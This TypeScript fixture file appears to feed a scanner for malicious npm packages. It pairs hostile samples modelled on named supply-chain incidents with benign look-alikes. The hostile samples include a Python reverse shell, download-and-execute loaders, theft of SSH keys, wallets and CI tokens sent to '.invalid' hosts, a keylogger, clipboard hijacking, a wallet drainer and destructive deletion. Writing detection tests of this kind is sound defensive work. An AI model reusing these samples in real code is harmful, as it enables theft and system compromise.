import type { Fixture, Technique } from './techniques.ts'

const install = (text: string): Fixture => ({
  manifest: { scripts: { postinstall: 'node install.js' } },
  files: { 'install.js': text },
})
const main = (text: string): Fixture => ({ files: { 'index.js': text } })
const script = (postinstall: string): Fixture => ({ manifest: { scripts: { postinstall } }, files: {} })
const address = `0x${'3f'.repeat(20)}`

/** Incidents of 2021 to 2026 in inert form, as far as `techniques.ts` does not hold their shape. */
export const incidents: readonly Technique[] = [
  {
    name: 'what a server sends is handed to another node (Contagious Interview)',
    rule: 'code/runs-downloads',
    hostile: main(`
      const { spawn } = require('child_process')
      async function start() {
        const answer = await fetch('https://json.invalid/b/x').then((res) => res.json())
        spawn(process.execPath, ['-e', answer.content], { detached: true, stdio: 'ignore' }).unref()
      }
      start()`),
    honest: main(`
      const { spawn } = require('child_process')
      exports.evaluate = (code) => spawn(process.execPath, ['-e', code])
      exports.latest = async () => (await fetch('https://registry.npmjs.org/x/latest').then((res) => res.json())).version`),
  },
  {
    name: 'a socket tells which commands to run',
    rule: 'code/runs-downloads',
    hostile: main(`
      const { exec } = require('child_process')
      const socket = require('socket.io-client')('http://control.invalid:5000')
      socket.on('command', (line) => exec(line, (error, out) => socket.emit('out', out)))`),
    honest: main(`
      const { exec } = require('child_process')
      exports.connect = (url, done) => require('socket.io-client')(url).on('reload', () => exec('git pull', done))`),
  },
  {
    name: 'the constructor of async functions, found over a prototype',
    rule: 'code/runs-downloads',
    hostile: main(`
      (async () => {
        const text = await (await fetch('https://raw.invalid/y')).text()
        await new (Object.getPrototypeOf(async function () {}).constructor)('require', text)(require)
      })()`),
    honest: main(`
      const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor
      exports.isAsync = (fn) => fn instanceof AsyncFunction`),
  },
  {
    name: 'a module made of what a server sends',
    rule: 'code/runs-downloads',
    hostile: main(`
      fetch('https://m.invalid/m.js').then((res) => res.text())
        .then((text) => import('data:text/javascript;base64,' + Buffer.from(text).toString('base64')))`),
    honest: main(`exports.load = (name) => import('./plugins/' + name + '.js')`),
  },
  {
    name: 'a contract of a chain says where the program lies',
    rule: 'code/runs-downloads',
    hostile: main(`
      const { ethers } = require('ethers'), https = require('https'), fs = require('fs'), os = require('os')
      const path = require('path'), { exec } = require('child_process')
      ;(async () => {
        const url = await new ethers.Contract('${address}', [], new ethers.JsonRpcProvider('https://rpc.invalid')).get()
        const file = path.join(os.tmpdir(), 'node-win.exe')
        https.get(url, (res) => res.pipe(fs.createWriteStream(file)).on('finish', () => exec('"' + file + '"')))
      })()`),
    honest: main(`
      const { ethers } = require('ethers')
      exports.read = (rpc) => new ethers.Contract('${address}', [], new ethers.JsonRpcProvider(rpc)).get()`),
  },
  {
    name: 'programs of Windows are given an address',
    rule: 'code/runs-downloads',
    hostile: script('msiexec /i https://setup.invalid/client.msi /qn'),
    honest: script('msiexec /i vendor\\setup.msi /qn || exit 0'),
  },
  {
    name: 'code lies in a picture (fezbox, flatmap-stream and their like)',
    rule: 'code/runs-encoded',
    hostile: main(`
      const bytes = require('fs').readFileSync(__dirname + '/logo.png')
      let text = ''
      for (let i = 54; i < bytes.length; i += 4) text += String.fromCharCode(bytes[i] ^ 90)
      eval(text)`),
    honest: main(`
      const fs = require('fs')
      exports.logo = fs.readFileSync(__dirname + '/logo.png').toString('base64')
      exports.compile = (file) => new Function('data', fs.readFileSync(file, 'utf8'))`),
  },
  {
    name: 'code lies in the pixels of a page (fezbox, September 2025)',
    rule: 'code/runs-encoded',
    hostile: main(`
      const image = new Image()
      image.src = 'https://pictures.invalid/x.jpg'
      image.onload = () => {
        const context = document.createElement('canvas').getContext('2d')
        context.drawImage(image, 0, 0)
        new Function(require('jsqr')(context.getImageData(0, 0, 9, 9).data).data)()
      }`),
    honest: main(`
      exports.read = (image) => {
        const context = document.createElement('canvas').getContext('2d')
        context.drawImage(image, 0, 0)
        return require('jsqr')(context.getImageData(0, 0, 9, 9).data).data
      }`),
  },
  {
    name: 'a script of its own is put beside other programs and started',
    rule: 'code/runs-dropped',
    hostile: install(`
      const fs = require('fs'), os = require('os'), path = require('path'), { exec } = require('child_process')
      const file = path.join(os.tmpdir(), 'u.vbs')
      fs.writeFileSync(file, 'MsgBox "inert"')
      exec('wscript ' + file)`),
    honest: install(`
      const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process')
      const file = path.join(os.tmpdir(), 'probe.c')
      fs.writeFileSync(file, 'int main(void) { return 0; }')
      execSync('cc ' + file + ' -o /dev/null')`),
  },
  {
    name: 'a library of Windows that comes in the archive (eslint-config-prettier, July 2025)',
    rule: 'code/runs-binary',
    hostile: install(`
      const path = require('path')
      if (process.platform === 'win32')
        require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './addon.dll') + ',main'])`),
    honest: main(`
      const { spawn } = require('child_process')
      exports.properties = (file) => spawn('rundll32', ['shell32.dll,ShellExec_RunDLL', file])`),
  },
  {
    name: 'processes below what hooks can see',
    rule: 'code/hides-process',
    hostile: main(`
      const { Process } = process.binding('process_wrap')
      new Process().spawn({ file: '/bin/sh', args: ['sh', '-c', 'true'] })`),
    honest: main(`exports.constants = process.binding('constants')`),
  },
  {
    name: 'who loads a wallet gets another (bitcore-wallet-client)',
    rule: 'code/intercepts',
    hostile: main(`
      const Module = require('module'), load = Module._load
      Module._load = function (name, ...rest) {
        const found = load.call(this, name, ...rest)
        if (name === 'ethers') found.Wallet = class extends found.Wallet {
          constructor(key) { super(key); fetch('https://keys.invalid/?k=' + key) }
        }
        return found
      }`),
    honest: main(`
      const Module = require('module'), load = Module._load
      exports.hook = (name, change) => {
        Module._load = function (request, ...rest) {
          const found = load.call(this, request, ...rest)
          return request === name ? change(found) : found
        }
      }`),
  },
  {
    name: 'what is set on any object goes out',
    rule: 'code/intercepts',
    hostile: main(`
      Object.defineProperty(Object.prototype, 'privateKey', {
        configurable: true,
        set(value) { require('https').get('https://keys.invalid/?' + value) },
      })`),
    honest: main(`
      if (!Object.hasOwn) Object.defineProperty(Object, 'hasOwn', { value: (o, key) => ({}).hasOwnProperty.call(o, key) })`),
  },
  {
    name: 'the wallet of whoever opens the page pays (lottie-player, October 2024)',
    rule: 'code/empties-wallet',
    hostile: main(`
      addEventListener('load', async () => {
        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' })
        await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '${address}', value: '0x1' }] })
      })`),
    honest: main(`
      exports.send = (from, to, value) =>
        window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] })`),
  },
  {
    name: 'the address of a payment, written into the clipboard in mixed case',
    rule: 'code/swaps-clipboard',
    hostile: main(`
      const clipboard = require('clipboardy')
      setInterval(() => {
        if (/^[13]\\w{25,39}$/.test(clipboard.readSync())) clipboard.writeSync('1BoatSLRHtKNngkdXEeobR76b53LETtpyT')
      }, 500)`),
    honest: main(`exports.copy = (text) => require('clipboardy').writeSync(text)`),
  },
  {
    name: 'keys and forms of every visitor',
    rule: 'code/skims',
    hostile: main(`
      document.addEventListener('keydown', (event) => navigator.sendBeacon('https://keys.invalid', event.key))`),
    honest: main(`
      document.addEventListener('keydown', (event) => { if (event.key === 'Escape') document.body.classList.remove('open') })
      exports.send = (form) => fetch(form.action, { method: 'POST', body: new FormData(form) })`),
  },
  {
    name: 'secrets of a build out of the memory of its runner (TanStack, May 2026)',
    rule: 'code/reads-memory',
    hostile: install(`
      const { execSync } = require('child_process')
      execSync("tr -d '\\\\0' | grep -aoE '\\"value\\":\\"[^\\"]*\\",\\"isSecret\\":true'")`),
    honest: install(`
      const fs = require('fs')
      const limit = fs.readFileSync('/proc/meminfo', 'utf8')
      console.log(limit.split('\\n', 1)[0])`),
  },
  {
    name: 'the tokens of a build service, whatever the host',
    rule: 'code/sends-identity',
    hostile: install(`
      fetch(process.env.ACTIONS_RESULTS_URL + 'caches', {
        method: 'POST', headers: { authorization: 'Bearer ' + process.env.ACTIONS_RUNTIME_TOKEN },
      })`),
    honest: main(`
      exports.idToken = () => fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL, {
        headers: { authorization: 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN },
      })`),
  },
  {
    name: 'a key that may be missing is sent',
    rule: 'code/sends-secrets',
    hostile: {
      manifest: { type: 'module', main: 'index.js' },
      files: {
        'index.js': `
          import { readFile } from 'node:fs/promises'
          import { homedir } from 'node:os'
          const key = await readFile(homedir() + '/.ssh/id_rsa', 'utf8').catch(() => '')
          if (key) await fetch('https://keys.invalid', { method: 'POST', body: key })`,
      },
    },
    honest: main(`
      const { readFile } = require('fs/promises')
      exports.hosts = () => readFile(require('os').homedir() + '/.ssh/known_hosts', 'utf8').catch(() => '')`),
  },
  {
    name: 'private keys go by mail',
    rule: 'code/sends-secrets',
    hostile: main(`
      const post = require('nodemailer').createTransport({ service: 'gmail' })
      exports.account = (privateKey) => { post.sendMail({ to: 'a@mail.invalid', text: privateKey }); return { privateKey } }`),
    honest: main(`
      const { createTransport } = require('nodemailer')
      exports.send = (smtp, privateKey, mail) => createTransport({ ...smtp, dkim: { privateKey } }).sendMail(mail)`),
  },
  {
    name: 'every folder of the user, from one on',
    rule: 'code/deletes',
    hostile: main(`
      const fs = require('fs'), path = require('path')
      const remove = (folder) => {
        for (const name of fs.readdirSync(folder)) {
          const file = path.join(folder, name)
          fs.statSync(file).isDirectory() ? remove(file) : fs.unlinkSync(file)
        }
      }
      if (Date.now() > new Date(2025, 6, 1).getTime()) remove(path.join(require('os').homedir(), 'Documents'))`),
    honest: main(`
      const fs = require('fs'), path = require('path'), os = require('os')
      const cache = path.join(os.homedir(), '.cache', 'sample')
      exports.clear = () => { for (const name of fs.readdirSync(cache)) fs.unlinkSync(path.join(cache, name)) }`),
  },
  {
    name: 'packages come from another registry from now on',
    rule: 'code/tampers',
    hostile: script('npm config set registry http://registry.invalid -g'),
    honest: script('npm config get registry'),
  },
  {
    name: 'the settings of the package manager are written',
    rule: 'code/plants-autorun',
    hostile: install(`
      const fs = require('fs')
      fs.appendFileSync(require('os').homedir() + '/.npmrc', '\\nregistry=https://registry.invalid/\\n')`),
    honest: main(`
      const fs = require('fs'), path = require('path')
      exports.scratch = (folder) => fs.writeFileSync(path.join(folder, '.yarnrc.yml'), 'nodeLinker: node-modules')
      exports.login = (token) => fs.appendFileSync('.npmrc', '//registry.npmjs.org/:_authToken=' + token)`),
  },
  {
    name: 'a package from an address',
    rule: 'code/fetches-program',
    hostile: install(`require('child_process').execSync('npm install http://files.invalid/p.tgz --no-save')`),
    honest: main(`exports.add = (name) => require('child_process').execSync('npm install ' + name)`),
  },
  {
    name: 'an advertisement',
    rule: 'code/opens-page',
    hostile: install(
      `require('child_process').exec((process.platform === 'win32' ? 'start ' : 'xdg-open ') + 'https://ads.invalid')`,
    ),
    honest: install(`console.log('Read https://docs.invalid before you begin')`),
  },
  {
    name: 'a shell over a socket, in one line of Python',
    rule: 'code/shell-connected',
    hostile: script(
      `python3 -c 'import socket,os;s=socket.socket();s.connect(("sh.invalid",1));os.dup2(s.fileno(),0);os.execv("/bin/sh",["-i"])'`,
    ),
    honest: script(`python3 -c 'import socket;print(socket.AF_INET)'`),
  },
  {
    name: 'names of dollars and dashes (jjencode)',
    rule: 'code/obfuscated',
    hostile: main(
      `$=~[];$={};${['$.__$', '$._$_', '$.$$_', '$.$_$', '$._$$', '$.$$$'].map((one) => `${one}=1;${one}++;`).join('')}`,
    ),
    honest: main(`exports.$ = (q) => document.querySelector(q); exports.$$ = (q) => document.querySelectorAll(q)`),
  },
  {
    name: 'where a text is cut says nothing of what is in it: a lexer keeps its own program encoded',
    rule: 'code/runs-encoded',
    hostile: main(`const [a, b] = ['${btoa('console.')}', '${btoa('log(1+1)')}']; eval(atob(a) + atob(b))`),
    honest: main(`
      const lexer = require('lexer').load(Buffer.from('AGFzbQEAAAABKwhgAX8Bf2AEf39/fwBgAAF/YAAA', 'base64'))
      const parse = (source) => (0, eval)(source.slice(lexer.start(), lexer.end()))
      exports.parse = parse
      for (const source of []) parse(source)`),
  },
  {
    name: 'a pipe of this machine is nobody elsewhere',
    rule: 'code/sends-identity',
    hostile: main(`
      const net = require('net'), os = require('os')
      const socket = net.createConnection(4444, 'drop.invalid', () => socket.write(os.userInfo().username))`),
    honest: main(`
      const net = require('net'), os = require('os'), path = require('path')
      const pipe = path.join(os.tmpdir(), 'sample-' + os.userInfo().username, 'a.pipe')
      const socket = net.createConnection(pipe, () => socket.write(pipe))`),
  },
  {
    name: 'a message of the parent is not the environment',
    rule: 'code/sends-identity',
    hostile: main(
      `process.on('message', () => fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(process.env) }))`,
    ),
    honest: main(`process.on('message', (message) => require('request')(message.url, () => process.exit()))`),
  },
  {
    name: 'a handler that runs what a client sends',
    rule: 'code/runs-downloads',
    hostile: main(`
      const { exec } = require('child_process')
      module.exports = (app) => app.get('/health', (req, res) => exec(req.query.c, (error, out) => res.end(out)))`),
    honest: main(`
      const { exec } = require('child_process')
      module.exports = (app) => app.get('/version', (req, res) => exec('git rev-parse HEAD', (error, out) => res.end(out)))`),
  },
  {
    name: 'a handler that deletes the project (express-api-sync, June 2025)',
    rule: 'code/deletes',
    hostile: main(`
      const { exec } = require('child_process')
      module.exports = () => (req, res, next) => (req.headers['x-key'] === 'k' ? exec('rm -rf *') : next())`),
    honest: main(`
      const { exec } = require('child_process')
      exports.clean = (cwd, done) => exec('rm -rf *', { cwd }, done)`),
  },
  {
    name: 'a wallet in the words of a command',
    rule: 'code/sends-secrets',
    hostile: main(`
      const fs = require('fs'), { exec } = require('child_process')
      const key = fs.readFileSync(require('os').homedir() + '/.config/solana/id.json', 'utf8')
      exec('curl -d ' + JSON.stringify(key) + ' https://keys.invalid')`),
    honest: main(`
      const { exec } = require('child_process')
      exports.download = (url, done) => exec('curl -fsSL ' + url, done)`),
  },
  {
    name: 'what a search over folders found',
    rule: 'code/sends-identity',
    hostile: main(`
      const fs = require('fs'), path = require('path'), found = []
      ;(function walk(folder) {
        for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
          const file = path.join(folder, entry.name)
          if (entry.isDirectory()) walk(file)
          else if (/wallet|secret/.test(entry.name)) found.push({ file, text: fs.readFileSync(file, 'utf8') })
        }
      })(process.cwd())
      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(found) })`),
    honest: main(`
      const fs = require('fs'), path = require('path')
      exports.upload = (url, folder) => Promise.all(fs.readdirSync(folder).map((name) =>
        fetch(url, { method: 'PUT', body: fs.readFileSync(path.join(folder, name)) })))`),
  },
  {
    name: 'pictures of the screen',
    rule: 'code/sends-identity',
    hostile: main(`
      const shot = require('screenshot-desktop')
      setInterval(() => shot().then((body) => fetch('https://drop.invalid', { method: 'POST', body })), 60000)`),
    honest: main(`exports.shot = () => require('screenshot-desktop')({ format: 'png' })`),
  },
  {
    name: 'visitors are sent elsewhere',
    rule: 'code/loads-script',
    hostile: main(`
      if (typeof window !== 'undefined' && /Android/.test(navigator.userAgent))
        setTimeout(() => { window.location.href = 'https://ads.invalid/x' }, 5000)`),
    honest: main(`exports.go = () => { window.location.href = 'https://login.invalid/authorize' }`),
  },
  {
    name: 'the machine of the build, over its containers',
    rule: 'code/tampers',
    hostile: script('docker run --rm --privileged -v /:/host alpine true'),
    honest: script('docker --version || echo no docker'),
  },
  {
    name: 'an installed application is written over',
    rule: 'code/tampers',
    hostile: install(`
      const fs = require('fs'), file = '/Applications/Editor.app/Contents/Resources/app/dist/main.js'
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + '// inert')`),
    honest: install(`
      const fs = require('fs')
      console.log(fs.existsSync('/Applications/Editor.app/Contents/MacOS/Editor'))`),
  },
  {
    name: 'a program from an address, run by its runner',
    rule: 'code/runs-downloads',
    hostile: script('deno run -A https://code.invalid/x.ts'),
    honest: script('deno --version || exit 0'),
  },
]
